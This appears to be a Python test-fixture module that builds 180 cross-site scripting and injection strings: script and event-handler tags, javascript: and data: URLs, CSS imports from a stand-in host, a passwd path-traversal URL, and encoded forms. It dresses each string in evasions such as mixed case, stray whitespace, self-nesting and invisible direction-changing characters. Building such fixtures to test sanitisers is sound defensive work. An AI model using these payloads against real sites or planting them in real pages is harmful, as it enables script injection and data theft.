# SPDX-FileCopyrightText: 2026 The flaxattn authors
# SPDX-License-Identifier: Apache-2.0
"""Texts that look like code: six kinds of six shapes, each dressed in five ways, 180 in all.

Each would call `alert`, ask for something at `hostile.invalid` or break a policy where it was taken
for what it looks like. They are put together here; none is a copy of a list.
"""

from collections.abc import Callable

WHERE = "hostile.invalid"

# What stands for NUMBER tells the texts apart; CALL is what would run.
SHAPES: dict[str, tuple[str, ...]] = {
    "element": (
        "</script><script>CALL</script>",
        "<img src=x onerror=CALL>",
        "--><svg onload=CALL>",
        "</title></textarea><iframe srcdoc='<script>CALL</script>'></iframe>",
        "</option></select><details open ontoggle=CALL>",
        "<object data=//WHERE/NUMBER></object>",
    ),
    "attribute": (
        '" onmouseover="CALL" x="',
        "' onfocus='CALL' autofocus x='",
        "x onclick=CALL style=color:red",
        '"><input autofocus onfocus="CALL">',
        "` onerror=`CALL`",
        '" srcset="//WHERE/NUMBER 1x" sizes="',
    ),
    "script": (
        '"};CALL;//',
        "'-CALL-'",
        "${CALL}",
        "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
        "*/CALL/*",
        "]]><!--<script>CALL//",
    ),
    "address": (
        "javascript:CALL",
        "data:text/html,<script>CALL</script>",
        "//WHERE/NUMBER.png",
        "https://WHERE/NUMBER?a=1&b=2#layer=9",
        "blob:https://WHERE/NUMBER",
        "file:///etc/NUMBER/../../passwd",
    ),
    "style": (
        "</style><style>*{display:none}</style>",
        ";background:url(//WHERE/NUMBER)",
        "}@import '//WHERE/NUMBER.css';{",
        "red;--head-0:red;position:fixed;inset:0",
        "expression(CALL)",
        "url(data:image/svg+xml,<svg onload=CALL>)",
    ),
    "coded": (
        "&lt;script&gt;CALL&lt;/script&gt;",
        "&#60;img src=x onerror=CALL&#62;",
        "%3Cscript%3ECALL%3C%2Fscript%3E",
        "＜script＞CALL＜/script＞",
        "+ADw-script+AD4-CALL",
        "@{script}{{CALL}}<%=NUMBER%>@{payload}",
    ),
}


def _mixed(text: str) -> str:
    """Letters of markup in changing case; that of a call is kept."""
    return text.replace("script", "ScRiPt").replace("on", "oN").replace("style", "StYlE")


def _broken(text: str) -> str:
    """Blanks of several kinds where a parser passes over them."""
    return f"\t{text}\n ".replace("<", "<\x0b", 1)


def _nested(text: str) -> str:
    """Once more inside itself: to remove it once is not enough."""
    half = len(text) // 2
    return text[:half] + text + text[half:]


def _turned(text: str) -> str:
    """Between marks that turn the direction, join and say nothing."""
    return f"\u202e{text}\u202c\u2028\ufeff\u200d"


DRESSES: tuple[Callable[[str], str], ...] = (str, _mixed, _broken, _nested, _turned)


def texts(kind: str) -> list[str]:
    """The thirty texts of a kind, no two alike."""
    made = []
    for shape in SHAPES[kind]:
        for dress in DRESSES:
            number = str(len(made))
            filled = shape.replace("CALL", f"alert({number})").replace("NUMBER", number)
            made.append(dress(filled.replace("WHERE", WHERE)))
    return made
